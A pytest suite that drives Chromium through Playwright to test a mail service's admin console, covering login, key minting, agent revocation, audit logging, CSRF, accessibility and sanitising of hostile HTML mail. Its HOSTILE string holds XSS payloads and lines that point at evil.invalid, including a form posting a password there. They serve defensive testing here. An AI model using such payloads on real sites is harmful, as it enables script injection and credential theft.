"""The console in a real browser: Debian's Chromium driven by Playwright (no browser
download; ``executable_path``), against a real ``postern serve`` with its SMTP listener.

One journey, as an org admin would take it: sign in with a printed link, mint an
enrollment key and copy it, see the agent that redeems it over the API, watch mail sent
over SMTP appear live, read hostile HTML mail with nothing run or fetched, revoke the
agent's key and see its next call refused, find every step in the audit log.
Set CONSOLE_SCREENSHOTS=DIR to keep screenshots of the main pages (docs/console.md).
"""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
import smtplib
import subprocess
import sys
from pathlib import Path

import httpx
import pytest
from support.server import seeding
from support.world import make_tenant

from postern.core.models import ConsoleSession, utcnow

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
playwright_api = pytest.importorskip("playwright.sync_api")
# CI installs chromium (.ci/run), so there a missing browser fails instead of skipping.
pytestmark = pytest.mark.skipif(
    not Path(CHROMIUM).exists() and not os.environ.get("CI"), reason="Debian's chromium is not installed"
)

HOSTILE = (
    "<p id=hello>Hello from HTML</p>"
    "<script>alert('script ran')</script>"
    "<img src=x onerror=\"alert('onerror ran')\">"
    "<img src=http://evil.invalid/pixel.gif>"
    "<a href=\"javascript:alert('link ran')\">click</a>"
    "<style>body{background:url(http://evil.invalid/css)}</style>"
    "<form action=http://evil.invalid/steal><input name=password></form>"
    '<meta http-equiv=refresh content="0;url=http://evil.invalid/refresh">'
    "<svg><script>alert('svg ran')</script></svg>"
    "<base href=http://evil.invalid/>"
)


def console_link(server, customer: str) -> str:
    out = subprocess.run(
        [sys.executable, "-m", "postern", "admin", "console-link", "--customer", customer, "--json"],
        env=server.env,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    return json.loads(out.stdout)["url"]


def send_mail(server, to: str, subject: str, html: str | None = None) -> None:
    body = f"Content-Type: text/html\r\n\r\n{html}" if html else "Content-Type: text/plain\r\n\r\nhello"
    raw = f"From: sender@example.org\r\nTo: {to}\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n{body}\r\n"
    with smtplib.SMTP("127.0.0.1", server.smtp_port, timeout=10) as smtp:
        smtp.sendmail("sender@example.org", [to], raw.encode())


@pytest.fixture
def browser():
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


def test_an_admin_runs_an_agent_from_the_console(serve, db_url, browser, tmp_path):
    with seeding(db_url):
        make_tenant("acme")
    server = serve()
    shots = os.environ.get("CONSOLE_SCREENSHOTS")
    context = browser.new_context(
        viewport={"width": 1280, "height": 860}, permissions=["clipboard-read", "clipboard-write"]
    )
    page = context.new_page()
    dialogs, errors, requests = [], [], []
    confirms = []

    def on_dialog(dialog):
        # The console's own confirm() before a revoke is accepted; anything else (an
        # alert from mail content) is recorded and would fail the test.
        if dialog.type == "confirm":
            confirms.append(dialog.message)
            dialog.accept()
        else:
            dialogs.append(dialog.message)
            dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    context.on("request", lambda r: requests.append(r.url))

    def shot(name):
        if shots:
            page.screenshot(path=str(Path(shots) / f"{name}.png"), full_page=True)

    # Sign in with a one-time link: the page posts it by itself.
    link = console_link(server, "acme")
    page.goto(link)
    page.wait_for_url(f"{server.url}/console")
    assert page.get_by_role("heading", name="Overview").is_visible()
    shot("overview")
    assert httpx.post(f"{server.url}/console/link", data={"code": link.split("code=")[1]}).status_code == 401

    # Mint an enrollment key; it is shown once, with a copy button.
    page.get_by_role("link", name="Enrollment keys", exact=True).click()
    page.get_by_label("Mailboxes (quota)").fill("2")
    page.get_by_label("Description").fill("browser key")
    page.get_by_role("button", name="Create key").click()
    key_field = page.get_by_label("Enrollment key")
    enrollment_key = key_field.input_value()
    assert enrollment_key.startswith("pk_enroll_")
    page.get_by_role("button", name="Copy").click()
    page.get_by_text("Copied.").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == enrollment_key
    shot("key-created")

    # The agent redeems it over the API and makes an inbox; the console shows it.
    enrolled = httpx.post(f"{server.url}/v1/enroll", json={"enrollment_token": enrollment_key, "agent_handle": "scout"})
    assert enrolled.status_code == 201, enrolled.text
    agent_key = enrolled.json()["agent_key"]
    auth = {"Authorization": f"Bearer {agent_key}"}
    inbox = httpx.post(f"{server.url}/v1/inboxes", json={"username": "scout"}, headers=auth).json()
    page.get_by_role("link", name="Agents", exact=True).click()
    page.get_by_role("link", name="scout", exact=True).click()
    assert page.get_by_role("link", name=inbox["address"]).is_visible()

    # Open the inbox and watch mail sent over SMTP arrive without a reload.
    page.get_by_role("link", name=inbox["address"]).click()
    page.wait_for_selector("#live")
    send_mail(server, inbox["address"], "Live arrival")
    page.get_by_text("Live arrival").wait_for(timeout=15000)
    shot("inbox")

    # Hostile HTML: nothing runs, nothing is fetched from elsewhere.
    send_mail(server, inbox["address"], "Hostile HTML", HOSTILE)
    page.get_by_text("Hostile HTML").wait_for(timeout=15000)
    page.get_by_text("Hostile HTML").click()
    frame = page.frame_locator("iframe.mailframe")
    assert frame.get_by_text("Hello from HTML").inner_text() == "Hello from HTML"
    page.wait_for_timeout(500)
    shot("message")
    assert dialogs == []
    assert not [u for u in requests if "evil.invalid" in u or not u.startswith(server.url)]
    assert frame.locator("body :is(script, form, input, style, svg, meta, base)").count() == 0

    # Revoke the agent's key: its next API call is refused.
    assert httpx.get(f"{server.url}/v1/me", headers=auth).status_code == 200
    page.get_by_role("link", name="Agents", exact=True).click()
    page.get_by_role("link", name="scout", exact=True).click()
    page.get_by_role("button", name="Revoke").first.click()
    page.get_by_text("revoked").first.wait_for()
    assert httpx.get(f"{server.url}/v1/me", headers=auth).status_code == 401
    assert confirms == ["Revoke this agent key?"] and dialogs == []

    # The audit log shows every step, done as the link's admin token.
    page.get_by_role("link", name="Audit log", exact=True).click()
    actions = set(page.locator("table.audit tbody td:nth-child(2)").all_inner_texts())
    assert {"console.login", "enrollment_key.create", "enroll", "inbox.create", "agent_key.revoke"} <= actions
    assert "auth" in actions  # the revoked key's refused call
    shot("audit")

    # A POST without the CSRF token is refused, even with the session cookie.
    refused = page.request.post(f"{server.url}/console/keys", form={"max_mailboxes": "1"})
    assert refused.status == 403

    # Keyboard: the first Tab reaches the skip link, Tab and Enter alone reach a page,
    # and a form is filled and sent without the mouse.
    page.goto(f"{server.url}/console/keys")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to content"
    for _ in range(12):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.textContent") == "Inboxes":
            break
    page.keyboard.press("Enter")
    page.wait_for_url(f"{server.url}/console/inboxes")
    page.get_by_label("Search by address").focus()
    page.keyboard.type("scout")
    page.keyboard.press("Enter")
    page.wait_for_url(f"{server.url}/console/inboxes?q=scout")
    assert page.get_by_role("link", name=inbox["address"]).is_visible()

    # Every control on every page has an accessible name, and no page broke the CSP.
    pages = ["", "/keys", "/agents", "/inboxes", f"/inboxes/{inbox['id']}", "/domains", "/webhooks", "/usage"]
    pages += ["/approvals", "/audit"]
    for path in pages:
        page.goto(f"{server.url}/console{path}")
        unnamed = page.evaluate(
            """() => [...document.querySelectorAll('input:not([type=hidden]), select, button, textarea, a')]
                .filter(e => !(e.labels && e.labels.length) && !e.getAttribute('aria-label')
                             && !e.textContent.trim())
                .map(e => e.outerHTML)"""
        )
        assert unnamed == [], path
    assert not [e for e in errors if "Content Security Policy" in e], errors

    # Sign out: the cookie no longer opens a page.
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url(f"{server.url}/console/login")
    page.goto(f"{server.url}/console")
    assert page.url.endswith("/console/login")
    context.close()


CORPUS = sorted((Path(__file__).parent / "data" / "hostile_html").glob("*.html"))


def test_no_hostile_mail_runs_or_fetches_anything_in_the_browser(serve, db_url, browser):
    """Every mail of tests/data/hostile_html, sent over SMTP and opened in the console:
    no dialog, no console output from the mail, no request leaves the console's origin."""
    with seeding(db_url):
        tenant = make_tenant("acme")
        enrolled = tenant.agent_key(handle="reader")
    server = serve()
    auth = {"Authorization": f"Bearer {enrolled.agent_key}"}
    inbox = httpx.post(f"{server.url}/v1/inboxes", json={"username": "reader"}, headers=auth).json()
    for path in CORPUS:
        send_mail(server, inbox["address"], f"corpus {path.stem}", path.read_text())
    messages = httpx.get(f"{server.url}/v1/inboxes/{inbox['id']}/messages?limit=100", headers=auth).json()["data"]
    assert len(messages) == len(CORPUS)

    context = browser.new_context()
    page = context.new_page()
    dialogs, requests = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    context.on("request", lambda r: requests.append(r.url))
    page.goto(console_link(server, "acme"))
    page.wait_for_url(f"{server.url}/console")
    for message in messages:
        page.goto(f"{server.url}/console/inboxes/{inbox['id']}/messages/{message['id']}")
        frame = page.frame_locator("iframe.mailframe")
        frame.locator("body").wait_for(state="attached")
        # What the mail tried to put into the frame's document is not there.
        assert (
            frame.locator("body :is(script, style, form, input, iframe, object, embed, svg, math, base)").count() == 0
        )
        assert frame.locator("body [onerror], body [onload], body [style], body [srcset]").count() == 0
    page.wait_for_timeout(500)  # anything delayed (meta refresh, lazy images) would have gone by now
    assert dialogs == []
    foreign = [u for u in requests if not u.startswith(server.url)]
    assert foreign == []
    # The frames themselves stayed on their own URLs: no refresh or <base> moved one.
    frames = [f.url for f in page.frames if f != page.main_frame]
    assert frames and all("/frame" in u and u.startswith(server.url) for u in frames)
    context.close()


def test_an_idle_session_ends_in_the_browser(serve, db_url, browser):
    with seeding(db_url):
        make_tenant("acme")
    server = serve()
    page = browser.new_page()
    page.goto(console_link(server, "acme"))
    page.wait_for_url(f"{server.url}/console")
    with seeding(db_url):
        ConsoleSession.update(last_seen_at=utcnow() - dt.timedelta(minutes=31)).execute()
    page.get_by_role("link", name="Inboxes", exact=True).click()
    page.wait_for_url(f"{server.url}/console/login")
    assert page.get_by_label("Admin token").is_visible()
    page.close()
